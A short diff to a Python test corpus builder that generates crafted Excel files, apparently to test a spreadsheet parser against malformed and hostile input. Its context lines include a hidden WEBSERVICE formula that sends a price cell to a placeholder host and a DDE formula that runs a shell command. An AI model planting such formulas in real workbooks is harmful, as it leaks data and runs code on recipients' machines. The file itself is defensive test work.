@@ -270,6 +270,9 @@ def corpus() -> dict[str, bytes]:
         "webservice_formula.xlsx": patch(filled, INSTRUCTIONS_PART, swap(  # a sheet the reader does not read
             b"</sheetData>", b'<row r="999"><c r="K999" t="str"><f>_xlfn.WEBSERVICE("https://example.org/?"&amp;'
                              b"Price!B4)</f><v></v></c></row></sheetData>")),
+        "part_named_twice.xlsx": patch(filled, "xl/_rels/workbook.xml.rels", swap(b"</Relationships>", (
+            b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'sharedStrings" Target="worksheets/sheet5.xml"/></Relationships>'))),
         "dde_formula.xlsx": patch(filled, PRICE_PART, lambda xml: _cell_xml(
             xml, b"C4", b"<c r=\"C4\"><f>cmd|' /C calc'!A0</f><v>0</v></c>")),
         "wrong_tender.xlsx": _metadata(filled, 1, "RB-2025-OTHER-07"),
